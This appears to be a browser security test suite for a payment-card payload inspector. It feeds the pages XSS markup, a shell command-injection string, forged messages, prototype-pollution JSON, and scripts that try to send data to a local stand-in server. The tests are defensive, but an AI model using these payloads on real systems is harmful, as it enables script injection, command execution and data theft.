import {spawn} from 'node:child_process';
import {once} from 'node:events';
import {existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import {tmpdir} from 'node:os';
import path from 'node:path';
import type {CDPSession, Page} from 'playwright-core';
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, test} from 'vitest';
import {servePage} from '../../src/cli/explore/serve-page.js';
import {type LaunchedService, launch} from '../../src/service/launch.js';
import {DEMO_PARTNER, demoRegistry} from '../../src/service/registry/demo-registry.js';
import {BIN} from '../cli/run-bin.js';
import {raw} from '../service/inspector/inspector-client.js';
import {Browser, CHROMIUM, PAGE} from './browser.js';
import {everythingIn, PARSER, rowsOf, send, swipe} from './inspector/inspector-page.js';
import {paste} from './paste.js';

const PAN = '4266841088889999';
const PRIVATE = readFileSync('samples/idtech-private-key.json', 'utf8');
const {partnerId, partnerKey} = DEMO_PARTNER;

/** Each sets `hit` if it runs. */
const MARKUP = [
  '<img src=x onerror="hit=1">',
  '<script>hit=1</script>',
  '<svg onload="hit=1"><use href="#x"/></svg>',
  '"><iframe srcdoc="<script>parent.hit=1</script>">',
  'javascript:hit=1',
  '$' + '{hit=1}',
  '{{constructor.constructor("hit=1")()}}',
];

const browser = new Browser();
let demo: LaunchedService;
let page: Page;
let stranger: Server;
let asked: string[];

const strangerUrl = (host = '127.0.0.1') =>
  `http://${host}:${(stranger.address() as AddressInfo).port}`;
const switchOf = (of: Page) => of.getByRole('switch', {name: 'Show card numbers'});
const payload = () => page.getByRole('textbox', {name: 'Payload'});

async function open(url: string): Promise<void> {
  page = await browser.open({url});
  await page.getByRole('heading', {name: 'paylens'}).waitFor();
}

/** Evaluates as the page itself would: under its policy. */
async function asPage(expression: string, of: Page = page): Promise<unknown> {
  const session: CDPSession = await of.context().newCDPSession(of);
  const {result} = await session.send('Runtime.evaluate', {
    expression,
    allowUnsafeEvalBlockedByCSP: false,
    awaitPromise: true,
    returnByValue: true,
  });
  await session.detach();
  return result.value;
}

/** Nothing of what came from outside became a part of the document. */
async function expectText(): Promise<void> {
  expect(await asPage('globalThis.hit')).toBe(undefined);
  const foreign =
    "document.querySelectorAll('img, iframe, object, embed, svg, base, #app script, #app style, [onload], [onerror], [srcdoc], a[href^=javascript]').length";
  expect(await asPage(foreign)).toBe(0);
}

/** Opens an address from the page of a stranger, who keeps hold of it. */
async function opened(url: string): Promise<Page> {
  const [popup] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate((address) => {
      Object.assign(globalThis, {victim: globalThis.open(address)});
    }, url),
  ]);
  await popup.waitForURL(url);
  return popup;
}

/** What the window of a page listens to. */
async function listenersOf(of: Page): Promise<string[]> {
  const session = await of.context().newCDPSession(of);
  const {result} = await session.send('Runtime.evaluate', {expression: 'window'});
  const objectId = result.objectId ?? '';
  const {listeners} = await session.send('DOMDebugger.getEventListeners', {objectId});
  return listeners.map(({type}) => type);
}

/** Opens the detail of the newest request. */
async function openNewest(count: number): Promise<string> {
  await expect.poll(() => rowsOf(page).count(), {timeout: 15_000}).toBe(count);
  await rowsOf(page).first().click();
  await page.getByRole('heading', {name: 'Headers'}).waitFor();
  return page.getByRole('region', {name: 'Details'}).innerText();
}

describe.skipIf(!CHROMIUM)('attacks on the pages', {timeout: 60_000}, () => {
  beforeAll(async () => {
    await browser.start();
    stranger = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, {'content-type': 'text/html'}).end('<!doctype html><p>stranger');
    }).listen(0);
    await once(stranger, 'listening');
  });
  afterAll(async () => {
    await browser.stop();
    stranger.close();
  });
  beforeEach(async () => {
    asked = [];
    demo = await launch({mode: 'demo', registry: demoRegistry()});
  });
  afterEach(async () => {
    const others = page
      .context()
      .pages()
      .filter((other) => other !== page);
    for (const other of others) await other.close();
    await demo.close();
    expect(browser.faults.splice(0)).toEqual([]);
  });

  test.each(['', '/explore'])('31 an opener of %j of the service gets no page', async (path) => {
    await open(demo.url);
    await page.goto(strangerUrl());
    const popup = await opened(`${demo.url}${path}`);
    expect(JSON.parse(await popup.locator('body').innerText()).errCode).toBe(2011);
  });

  test('31 an opener that posts messages of payload, key and switch', async () => {
    await open(demo.url);
    await page.goto(strangerUrl());
    const explorer = await opened(await servePage(0));
    await explorer.getByRole('heading', {name: 'paylens'}).waitFor();
    const messages = [
      {payload: swipe().devicePayload, key: '0123456789ABCDEFFEDCBA9876543210'},
      {run: 1, news: {kind: 'done', answer: {}}},
      {type: 'show', reveal: true},
    ];
    const before = await explorer.locator('#app').innerHTML();
    const isClosed = await page.evaluate((all) => {
      const {victim} = globalThis as unknown as {victim: Window};
      for (const message of all) victim.postMessage(message, '*');
      return victim.closed;
    }, messages);
    // Cross-Origin-Opener-Policy: they do not know each other any more.
    expect(isClosed).toBe(true);
    expect(await asPage('opener === null', explorer)).toBe(true);
    // And if one did get through: nobody listens.
    for (const message of messages)
      await asPage(`postMessage(${JSON.stringify(message)}, '*')`, explorer);
    await explorer.waitForTimeout(200);
    expect(await explorer.locator('#app').innerHTML()).toBe(before);
    await page.goto(demo.url);
    for (const each of [explorer, page]) {
      const types = await listenersOf(each);
      expect(types).toContain('pageshow');
      expect(types).not.toContain('message');
    }
  });

  test('32 messages of the shape of a worker', async () => {
    // In the place of the worker, which is made of the page's own script.
    await open(PAGE);
    await asPage(
      'globalThis.Worker = class { constructor() { globalThis.fake = this; } postMessage(order) { this.order = order; } terminate() { this.ended = true; } };',
    );
    await paste(page, PRIVATE);
    const before = await payload().inputValue();
    expect(before).toBe(JSON.parse(PRIVATE).devicePayload);
    await page.getByRole('button', {name: 'Diagnose'}).click();
    await expect.poll(() => asPage('typeof fake?.order?.run')).toBe('number');
    const tell = (message: string) => asPage(`fake.onmessage({data: ${message}})`);
    const shown = () => page.locator('main').innerText();
    await tell(
      `{run: fake.order.run, news: {kind: 'progress', stage: 'begun', tried: 1, elapsedMs: 1}}`,
    );
    await expect.poll(shown).toContain('begun');
    for (const run of ['fake.order.run + 1', '0', '-1', 'NaN', 'undefined', `'1'`]) {
      await tell(
        `{run: ${run}, news: {kind: 'progress', stage: 'forged', tried: 9, elapsedMs: 1}}`,
      );
      await tell(`{run: ${run}, news: {kind: 'done', answer: {masked: {}, clear: {}}}}`);
      await tell(`{run: ${run}, news: {kind: 'failed', error: {code: 2100, detail: 'forged'}}}`);
    }
    await tell(
      `JSON.parse('{"run": 0, "__proto__": {"hit": 1}, "constructor": {"prototype": {"hit": 1}}}')`,
    );
    expect(await shown()).not.toContain('forged');
    expect(await asPage('fake.ended')).toBe(undefined);
    await tell(
      `{run: fake.order.run, news: {kind: 'progress', stage: ${JSON.stringify(MARKUP.join(''))} + 'x'.repeat(1e6), tried: 2, elapsedMs: 2}}`,
    );
    await expect.poll(shown).toContain('<img src=x');
    await expectText();
    await page.getByRole('button', {name: 'Cancel'}).click();
    expect(await asPage('fake.ended')).toBe(true);
    await tell(`{run: fake.order.run, news: {kind: 'done', answer: {masked: {}, clear: {}}}}`);
    expect(await asPage('({}).hit')).toBe(undefined);
    expect(await payload().inputValue()).toBe(before);
  });

  test('33 payloads that are markup, in the inspector', async () => {
    await open(demo.url);
    let count = 0;
    for (const [i, devicePayload] of MARKUP.entries()) {
      const deviceType = ['idtech', 'generic', 'nonsense'][i % 3] ?? '';
      const given =
        deviceType === 'generic' ? JSON.stringify({track2: devicePayload}) : devicePayload;
      await send(demo.url, {deviceType, devicePayload: given, reference: `r${i}`}, PARSER);
      count += 1;
      const said = await openNewest(count);
      expect(said).toContain(JSON.stringify(devicePayload).slice(1, -1).slice(0, 12));
      await expectText();
      await page.getByRole('button', {name: 'Clear'}).focus();
    }
    await switchOf(page).click();
    await expectText();
  });

  test('33 payloads that are markup, in the explorer', async () => {
    await open(`${demo.url}/explore`);
    for (const given of MARKUP) {
      for (const text of [given, JSON.stringify({deviceType: given, devicePayload: given})]) {
        await paste(page, text);
        await expectText();
      }
    }
    await switchOf(page).click();
    await expectText();
  });

  const BIDI = 'a\u202Egpj.exe\u2066b\u2028c\u2029d\u200Be\u0007f\uFEFF';
  test('34 reference, partner, header, path and User-Agent with markup and controls', async () => {
    await open(demo.url);
    const all = MARKUP.join('');
    const bodies: readonly [string, readonly string[], string][] = [
      [PARSER, [], JSON.stringify({partnerId: all, partnerKey: 'x', reference: BIDI})],
      [PARSER, [], JSON.stringify({partnerId: BIDI, partnerKey, reference: all})],
      [
        `/${encodeURI(all)}?<b>=%E2%80%AE`,
        [`User-Agent: ${all}`, `X-<b>: ${all}`.replace('<b>', 'B')],
        JSON.stringify({reference: all}),
      ],
      [PARSER, [`X-A: \xe2\x80\xae${all}`, `Authorization: Hmac ${all}`], '{}'],
      [
        '/api/v1/partner/validate',
        [],
        JSON.stringify({partnerId, partnerKey, reference: 'R'.repeat(60_000), clientId: BIDI}),
      ],
      ['/api/v1/device/validate', [], JSON.stringify({partnerId, partnerKey, serial: all})],
    ];
    for (const [i, [target, headers, body]] of bodies.entries()) {
      await raw(demo.url, `POST ${target}`, headers, body);
      const said = await openNewest(i + 1);
      await expectText();
      // Nothing reorders or breaks what is around it.
      const seen = await page.locator('main').evaluate((main) => main.textContent);
      expect(seen).not.toMatch(/[\u202E\u2066\u2028\u2029\u200B\uFEFF]/);
      expect(said.length).toBeGreaterThan(50);
      await page.getByRole('button', {name: 'Clear'}).focus();
    }
    const rows = await rowsOf(page).allInnerTexts();
    expect(rows.join('')).toContain('\uFFFD202E');
    for (const row of rows) expect(row.length).toBeLessThan(500);
    const wide = await asPage('document.documentElement.scrollWidth - innerWidth');
    expect(wide).toBe(0);
  });

  test.each(['', '/explore'])('35 files and links that are dropped on %j', async (path) => {
    await open(`${demo.url}${path}`);
    const drop = (script: string) =>
      asPage(
        `(() => { const data = new DataTransfer(); ${script}; const event = new DragEvent('drop', {dataTransfer: data, cancelable: true, bubbles: true}); document.body.dispatchEvent(new DragEvent('dragover', {dataTransfer: data, cancelable: true, bubbles: true})); document.body.dispatchEvent(event); return event.defaultPrevented; })()`,
      );
    const name = JSON.stringify(`${MARKUP[0]}.html`);
    const html = JSON.stringify(`<!doctype html><body>${MARKUP.join('')}`);
    const drops = [
      `data.items.add(new File([${html}], ${name}, {type: 'text/html'}))`,
      `data.setData('text/uri-list', '${strangerUrl()}/dropped'); data.setData('text/plain', '${strangerUrl()}/dropped')`,
      `data.setData('text/uri-list', 'javascript:hit=1'); data.setData('text/plain', 'javascript:hit=1')`,
      `data.setData('text/html', ${html})`,
    ];
    // Otherwise the browser would open what was dropped in the place of the page.
    for (const script of drops) expect(await drop(script)).toBe(true);
    await page.waitForTimeout(300);
    await expectText();
    expect(page.url()).toBe(`${demo.url}${path === '' ? '/' : path}`);
    expect(await page.locator('body').innerHTML()).not.toContain('.html');
    expect(asked).toEqual([]);
  });

  test('36 fragments of a link', async () => {
    const coded = (object: string) => `#p=${Buffer.from(object).toString('base64url')}`;
    await open(PAGE);
    const bad = [
      `#p=${MARKUP[0]}`,
      `#${MARKUP[1]}`,
      `#p=${'A'.repeat(1_000_000)}`,
      coded('{"__proto__": {"payload": "02", "hit": 1}}'),
      coded('{"payload": {"toString": "x"}}'),
      `${coded(JSON.stringify({payload: swipe().devicePayload}))}#p=AAAA`,
      coded(JSON.stringify({payload: PRIVATE})),
      coded(JSON.stringify({payload: `;${PAN}=09081011000046?`})),
      coded(JSON.stringify({payload: MARKUP[0]})),
    ];
    for (const fragment of bad) {
      await asPage('history.replaceState(null, "", location.pathname)');
      await page.evaluate((hash) => {
        location.hash = hash;
      }, fragment);
      await expect
        .poll(() => page.getByRole('alert').innerText())
        .toMatch(/This link holds no payload|published test cards only/);
      expect(await page.getByRole('grid', {name: 'Bytes'}).count()).toBe(0);
      expect(page.url()).toBe(PAGE);
      await expectText();
    }
    expect(await asPage('({}).hit')).toBe(undefined);
    expect(await everythingIn(page)).not.toContain(PAN);
  });

  test('36 fragments of the inspector', async () => {
    await open(`${demo.url}/#token=${MARKUP[0]}`);
    await page.getByText('No requests yet').waitFor();
    await expectText();
    for (const fragment of [`#token=${'A'.repeat(100_000)}`, '#token=x#y']) {
      await page.evaluate(`location.hash = ${JSON.stringify(fragment)}`);
      await page.getByText('No requests yet').waitFor();
      await expectText();
    }
  });

  test('37 the command that the explorer copies', async () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'paylens-attack-'));
    writeFileSync(
      path.join(folder, 'paylens'),
      `#!/bin/sh\nexec ${process.execPath} ${BIN} "$@"\n`,
      {mode: 0o755},
    );
    await open(`${demo.url}/explore`);
    await switchOf(page).click();
    const nasty = `'; touch pwned; $(touch pwned) \`touch pwned\` </script> =cmd|'/c calc'!A1 \n @x`;
    for (const text of [
      JSON.stringify({deviceType: 'generic', devicePayload: JSON.stringify({track2: nasty})}),
      JSON.stringify({...swipe(), ksn: nasty}),
      JSON.stringify({...swipe(), iv: `'$(touch pwned)'`}),
    ]) {
      await paste(page, text);
      const copy = page.getByRole('button', {name: 'Copy command'});
      if ((await copy.count()) === 0) continue;
      await page.evaluate(() => navigator.clipboard.writeText(''));
      await copy.click();
      const copied = page.getByText('Copied.').or(page.locator('[role=alert]:not(:empty)'));
      await copied.first().waitFor();
      const command = await page.evaluate(() => navigator.clipboard.readText());
      if (command === '') continue;
      const child = spawn('bash', ['-c', command], {
        cwd: folder,
        env: {PATH: `${folder}:${process.env.PATH}`, HOME: folder},
        stdio: 'ignore',
      });
      await once(child, 'exit');
      expect(existsSync(path.join(folder, 'pwned'))).toBe(false);
    }
    await expectText();
    rmSync(folder, {recursive: true});
  });

  test('38 the card number while it is masked, in another tab, and after coming back', async () => {
    await send(demo.url, {...swipe(), reference: 'r'}, PARSER);
    await open(demo.url);
    await openNewest(1);
    await page.getByRole('grid', {name: 'Bytes'}).waitFor();
    const hex = Buffer.from(PAN).toString('hex').toUpperCase();
    const expectMasked = async (of: Page) => {
      const seen = (await everythingIn(of)).replaceAll(/\s/g, '');
      for (const form of [PAN, hex]) expect(seen).not.toContain(form);
      await of.emulateMedia({media: 'print'});
      expect((await of.locator('body').innerText()).replaceAll(/\s/g, '')).not.toContain(PAN);
      await of.emulateMedia({media: 'screen'});
    };
    await expectMasked(page);
    await switchOf(page).click();
    await expect.poll(() => everythingIn(page)).toContain(PAN);
    const other = await page.context().newPage();
    await other.goto(demo.url);
    await rowsOf(other).first().click();
    await other.getByRole('grid', {name: 'Bytes'}).waitFor();
    await expectMasked(other);
    // As a browser brings a page back that it has kept whole.
    await asPage(`dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true}))`);
    await expect.poll(() => switchOf(page).getAttribute('aria-checked')).toBe('false');
    await expectMasked(page);
    await page.goto(strangerUrl());
    await page.goBack();
    await page.getByRole('heading', {name: 'paylens'}).waitFor();
    expect(await switchOf(page).getAttribute('aria-checked')).toBe('false');
    await expectMasked(page);
  });

  test('38 card and key after Forget, and in the explorer of another tab', async () => {
    const key = '0123456789ABCDEFFEDCBA9876543210';
    await open(`${demo.url}/explore`);
    await payload().fill(swipe().devicePayload);
    await page.getByRole('textbox', {name: 'Key'}).fill(key);
    await page.getByRole('button', {name: 'Decrypt'}).click();
    await switchOf(page).click();
    await expect.poll(() => everythingIn(page)).toContain(PAN);
    const other = await page.context().newPage();
    await other.goto(`${demo.url}/explore`);
    await other.getByRole('heading', {name: 'paylens'}).waitFor();
    for (const secret of [PAN, key]) expect(await everythingIn(other)).not.toContain(secret);
    await page.getByRole('button', {name: 'Forget'}).click();
    const shown = async () => (await everythingIn(page)).toUpperCase();
    for (const secret of [PAN, key, swipe().devicePayload.slice(0, 64)])
      await expect.poll(shown).not.toContain(secret.toUpperCase());
    await payload().fill(swipe().devicePayload);
    await switchOf(page).click();
    await asPage(`dispatchEvent(new PageTransitionEvent('pageshow', {persisted: true}))`);
    await expect.poll(() => payload().inputValue()).toBe('');
    expect(await everythingIn(page)).not.toContain(PAN);
  });

  const INJECTED: Readonly<Record<string, string>> = {
    'an inline script': `(() => { const s = document.createElement('script'); s.append('hit=1'); document.body.append(s); })()`,
    'a script from an address': `(() => { const s = document.createElement('script'); s.setAttribute('src', URL_ + '/script.js'); document.body.append(s); })()`,
    'a script of data': `(() => { const s = document.createElement('script'); s.setAttribute('src', 'data:text/javascript,hit=1'); document.body.append(s); })()`,
    'a handler': `(() => { const b = document.createElement('button'); b.setAttribute('onclick', 'hit=1'); document.body.append(b); b.click(); })()`,
    innerHTML: `document.querySelector('#app').parentElement.insertAdjacentHTML('beforeend', '<img src="x" onerror="hit=1">')`,
    'document.write': `document.write('<script>hit=1</' + 'script>')`,
    'a javascript: address': `(() => { const a = document.createElement('a'); a.setAttribute('href', 'javascript:hit=1'); document.body.append(a); a.click(); })()`,
    eval: `eval('hit=1')`,
    'new Function': `new Function('hit=1')()`,
    'a text as a timer': `setTimeout('hit=1')`,
    'a worker from an address': `new Worker(URL_ + '/worker.js')`,
    'a policy of its own': `trustedTypes.createPolicy('own', {createHTML: (text) => text})`,
    'a style attribute': `(() => { const d = document.createElement('div'); d.id = 'styled'; d.setAttribute('style', 'position: fixed; width: 77px; height: 7px'); document.body.append(d); })()`,
    'a style element': `(() => { const s = document.createElement('style'); s.append('body { outline: 7px solid red }'); document.body.append(s); })()`,
    'an image beacon': `(() => { new Image().src = URL_ + '/beacon'; })()`,
    sendBeacon: `navigator.sendBeacon(URL_ + '/sent', 'x')`,
    fetch: `fetch(URL_ + '/fetch', {mode: 'no-cors'})`,
    'a WebSocket': `new WebSocket(URL_.replace('http', 'ws') + '/socket')`,
    EventSource: `new EventSource(URL_ + '/events')`,
    'a form': `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = URL_ + '/form'; document.body.append(f); f.submit(); })()`,
    'a base': `(() => { const b = document.createElement('base'); b.href = URL_; document.head.append(b); })()`,
    'a frame': `(() => { const f = document.createElement('iframe'); f.src = URL_ + '/frame'; document.body.append(f); })()`,
    'a font': `new FontFace('own', 'url(' + URL_ + '/font)').load()`,
    'a style sheet': `(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL_ + '/sheet'; document.head.append(l); })()`,
    prefetch: `(() => { for (const rel of ['prefetch', 'preload', 'modulepreload']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = URL_ + '/' + rel; document.head.append(l); } })()`,
    import: `import(URL_ + '/module.js')`,
    'a service worker': `navigator.serviceWorker.register('/sw.js')`,
  };

  test.each(['inspector', 'explorer', 'written file'] as const)(
    '40 what is injected into the %s runs nothing, shows nothing, asks nobody',
    async (which) => {
      const url = {inspector: demo.url, explorer: `${demo.url}/explore`, 'written file': PAGE};
      await open(url[which]);
      const at = page.url();
      const base = await asPage('document.baseURI');
      const reached: string[] = [];
      page.on('response', (response) => reached.push(response.url()));
      for (const [name, script] of Object.entries(INJECTED)) {
        const run = `(async () => { const URL_ = ${JSON.stringify(strangerUrl('localhost'))}; try { await Promise.race([(${script}), new Promise((done) => setTimeout(done, 300))]); } catch {} })()`;
        await asPage(run);
        expect([name, await asPage('globalThis.hit')]).toEqual([name, undefined]);
      }
      await page.waitForTimeout(500);
      expect(await asPage('globalThis.hit')).toBe(undefined);
      expect(asked).toEqual([]);
      expect(reached.filter((each) => !each.startsWith(demo.url))).toEqual([]);
      expect(page.url()).toBe(at);
      expect(await asPage('document.baseURI')).toBe(base);
      expect(await asPage(`document.querySelector('#styled')?.offsetWidth === 77`)).toBe(false);
      expect(await asPage('getComputedStyle(document.body).outlineWidth')).not.toBe('7px');
      browser.faults.length = 0;
    },
  );

  test('40 the written file asks nobody, not even this machine', async () => {
    await open(PAGE);
    const tried = await asPage(
      `Promise.allSettled([fetch('${demo.url}/_requests'), fetch('${demo.url}/healthz', {mode: 'no-cors'}), fetch(location.href)]).then((all) => all.map(({status}) => status))`,
    );
    expect(tried).toEqual(['rejected', 'rejected', 'rejected']);
    const other = browser.faults
      .splice(0)
      .filter((fault) => !/Content Security Policy/.test(fault));
    expect(other).toEqual([]);
    // The same from where it is allowed: it is the policy that refuses.
    await page.goto(demo.url);
    expect(await asPage(`fetch('/healthz').then(({status}) => status)`)).toBe(200);
  });
});
